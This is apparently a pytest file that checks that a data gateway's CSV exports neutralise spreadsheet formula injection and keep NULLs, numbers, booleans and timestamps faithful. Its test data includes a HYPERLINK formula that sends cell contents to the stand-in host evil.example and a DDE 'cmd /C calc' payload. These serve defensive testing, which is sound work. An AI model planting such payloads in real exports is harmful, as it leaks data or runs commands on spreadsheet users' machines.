"""CSV exports are safe to open in a spreadsheet (issue 11, item 7): a text cell that starts like a
formula (`= + - @`, TAB, CR) is neutralised with a leading `'` (OWASP, CSV Injection); numbers stay
numbers, `-5` included; NULL (an empty field) and the empty string (`""`) are told apart; booleans and
timestamps are written as GraphQL writes them. Real uvicorn HTTP."""

from __future__ import annotations

import csv
import io
import json
import time
from typing import Any

import pytest

from meshcore.products import ColumnSpec, ProductSpec
from tests.gateway.conftest import Server

NOTES = ProductSpec(
    department="public_works",
    product="notes",
    classification="internal",
    owner="alice@city.example",
    description="Free-text notes, as typed in by the public.",
    key="id",
    columns=(
        ColumnSpec("id", "integer", "Row"),
        ColumnSpec("note", "varchar", "What was typed"),
        ColumnSpec("amount", "double", "A signed number"),
        ColumnSpec("ok", "boolean", "A flag"),
        ColumnSpec("seen_at", "timestamp", "When"),
        ColumnSpec("day", "date", "Which day"),
    ),
)
NOTES_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB first",
    "\rCR first",
    'plain, with a comma and a "quote"',
    "",
    None,
    "a=1 inside is fine",
]
NOTES_SQL = """
SELECT id, note, CAST(amount AS DOUBLE) AS amount, ok, seen_at, day FROM (VALUES
  (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', -5.0, true,
      TIMESTAMP '2026-01-01 05:00:00', DATE '2026-02-01'),
  (2, '@SUM(1+1)*cmd|'' /C calc''!A0', -0.25, false,
      TIMESTAMP '2026-01-01 05:00:00.120000', DATE '2026-02-02'),
  (3, '+1+1', 1.5, NULL, NULL, NULL),
  (4, '-2+3', 0.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (5, chr(9) || 'TAB first', 2.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (6, chr(13) || 'CR first', 2.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (7, 'plain, with a comma and a "quote"', NULL, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (8, '', 3.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (9, NULL, 3.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04'),
  (10, 'a=1 inside is fine', 4.0, true, TIMESTAMP '2026-03-04 00:00:00', DATE '2026-03-04')
) t(id, note, amount, ok, seen_at, day)
"""


@pytest.fixture(scope="module")
def notes(server: Server, gw_settings: Any, publish_product: Any) -> Server:
    publish_product(gw_settings, NOTES, NOTES_SQL)
    for _ in range(50):  # the new product is served within a second
        response = server.client.get("/exports/public_works.notes.csv", headers=_auth(server))
        if response.status_code == 200:
            break
        time.sleep(0.1)
    return server


def _auth(server: Server) -> dict[str, str]:
    return {"Authorization": f"Bearer {server.token('alice')}"}


def _export(server: Server, fmt: str) -> str:
    response = server.client.get(f"/exports/public_works.notes.{fmt}", headers=_auth(server))
    assert response.status_code == 200, response.text
    return response.text


def test_text_that_starts_like_a_formula_is_neutralised(notes: Server) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(notes, "csv"), newline="")))
    for row, text in zip(rows, NOTES_TEXT, strict=True):
        if text is None or text == "":
            continue
        expected = "'" + text if text[0] in "=+-@\t\r" else text
        assert row["note"] == expected, row
    risky = [row["note"] for row in rows if row["note"][:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []


def test_numbers_stay_numbers_and_null_differs_from_empty_text(notes: Server) -> None:
    lines = _export(notes, "csv").split("\n")  # Arrow ends lines with LF; a CR stays inside its quotes
    assert lines[0] == '"id","note","amount","ok","seen_at","day"'
    assert lines[1].startswith('1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,true,')
    assert lines[7].startswith('7,"plain, with a comma and a ""quote""",,true,')  # NULL number: empty
    assert lines[8].startswith('8,"",3,true,')  # the empty string: quoted
    assert lines[9].startswith("9,,3,true,")  # NULL text: nothing at all
    assert lines[3] == '3,"\'+1+1",1.5,,,'  # NULL boolean, timestamp, date


def test_booleans_and_timestamps_are_written_as_graphql_writes_them(notes: Server) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(notes, "csv"), newline="")))
    body = notes.gql("{ publicWorks { notes(first: 20) { nodes { id ok seenAt day } } } }", "alice")
    graphql = {n["id"]: n for n in body["data"]["publicWorks"]["notes"]["nodes"]}
    for row in rows:
        node = graphql[int(row["id"])]
        assert row["ok"] == ("" if node["ok"] is None else json.dumps(node["ok"]))
        assert row["seen_at"] == (node["seenAt"] or "") and row["day"] == (node["day"] or "")
    assert rows[0]["seen_at"] == "2026-01-01T05:00:00" and rows[1]["seen_at"] == "2026-01-01T05:00:00.120000"
    ndjson = [json.loads(line) for line in _export(notes, "json").splitlines()]
    assert [r["seen_at"] for r in ndjson] == [graphql[r["id"]]["seenAt"] for r in ndjson]
